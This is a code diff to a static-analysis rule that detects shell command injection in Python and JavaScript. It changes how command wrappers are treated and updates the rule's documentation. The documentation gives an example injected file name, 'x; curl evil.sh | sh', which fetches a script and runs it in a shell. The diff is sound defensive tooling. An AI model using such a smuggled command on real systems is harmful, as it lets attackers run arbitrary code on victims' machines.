@@ -137,7 +137,10 @@ fn check_python<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
         else {
             return;
         };
-        if let Some(taint) = checker.taint(cmd, Sink::Shell) {
+        if let Some(taint) = checker
+            .taint(cmd, Sink::Shell)
+            .filter(|t| !passes_parameter_on(checker, cmd, t))
+        {
             let text = super::callee(checker.text(cmd));
             let from = checker.describe(&taint);
             checker.report(func, format!(
@@ -181,7 +184,9 @@ fn check_python<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
             Taint::best(best, checker.taint(e, Sink::Shell))
         })
     } else {
-        checker.taint(cmd, Sink::Shell)
+        checker
+            .taint(cmd, Sink::Shell)
+            .filter(|t| !passes_parameter_on(checker, cmd, t))
     };
     let Some(taint) = taint else {
         return;
@@ -335,7 +340,10 @@ fn check_javascript<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
     };
     let method = name.rsplit('.').next().unwrap_or("exec");
     if JS_SHELL.contains(&name.as_str()) {
-        let Some(taint) = checker.taint(cmd, Sink::Shell) else {
+        let Some(taint) = checker
+            .taint(cmd, Sink::Shell)
+            .filter(|t| !passes_parameter_on(checker, cmd, t))
+        else {
             return;
         };
         let file = if method == "execSync" {
@@ -406,6 +414,17 @@ fn check_javascript<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
         .with_taint(&taint);
 }
 
+/// `def run(cmd): os.system(cmd)`, `const sh = (cmd) => execSync(cmd)`: a wrapper that runs the
+/// whole command its caller gives it builds nothing; the callers build the command, and one
+/// passing request data is reported where it does (the cross-function summaries carry the
+/// parameter to the shell). A command the function builds from its parameter
+/// (`"curator --index " + name`) is still reported here.
+fn passes_parameter_on(checker: &Checker, cmd: Node, taint: &Taint) -> bool {
+    !taint.user
+        && cmd.kind_str() == "identifier"
+        && checker.source.get(taint.origin.clone()) == Some(checker.text(cmd))
+}
+
 const DOCS: &str = r#"## What it does
 Flags shell commands assembled from data the code does not fix: `os.system`, `os.popen`,
 `subprocess.getoutput`, `subprocess.*(…, shell=True)` in Python, and `child_process.exec` /
@@ -413,7 +432,9 @@ Flags shell commands assembled from data the code does not fix: `os.system`, `os
 own parameters. `spawn`/`execFile` with `shell: true` are judged the same way; without a shell
 they are reported only when the client chooses the program, or the script of `sh -c`. Commands
 made only of constants, or whose variable parts pass through `shlex.quote` or `parseInt`, are
-not reported; neither is `subprocess.run([...])` without a shell.
+not reported; neither is `subprocess.run([...])` without a shell. A wrapper that runs the whole
+command its caller hands it (`def run(cmd): os.system(cmd)`) is judged by its callers: it is
+reported, with the path, when one of them passes request data.
 
 ## Why is this bad?
 A shell interprets `;`, `|`, `$(…)` and backticks. A file name like `x; curl evil.sh | sh` turns
